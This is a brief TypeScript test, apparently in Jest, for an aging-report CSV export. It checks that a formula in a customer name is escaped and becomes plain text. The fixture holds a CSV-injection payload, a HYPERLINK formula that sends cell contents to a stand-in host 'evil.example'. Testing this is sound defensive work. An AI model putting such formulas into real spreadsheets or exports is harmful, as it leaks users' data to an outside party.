import { agingCsv } from './routes';

describe('the aging as CSV', () => {
  it('passes no formula through: a customer named =HYPERLINK(...) is text in a spreadsheet', () => {
    const csv = agingCsv([
      {
        asOf: '2026-03-15',
        currency: 'CNY',
        group: '=HYPERLINK("http://evil.example/?"&A1,"Acme")',
        buckets: [{ bucket: 'NOT_DUE', amount: 250_000, count: 1 }],
      },
    ] as never);
    expect(csv.split('\n')[1]).toBe(
      `2026-03-15,CNY,"'=HYPERLINK(""http://evil.example/?""&A1,""Acme"")",NOT_DUE,250000,1`,
    );
  });
});
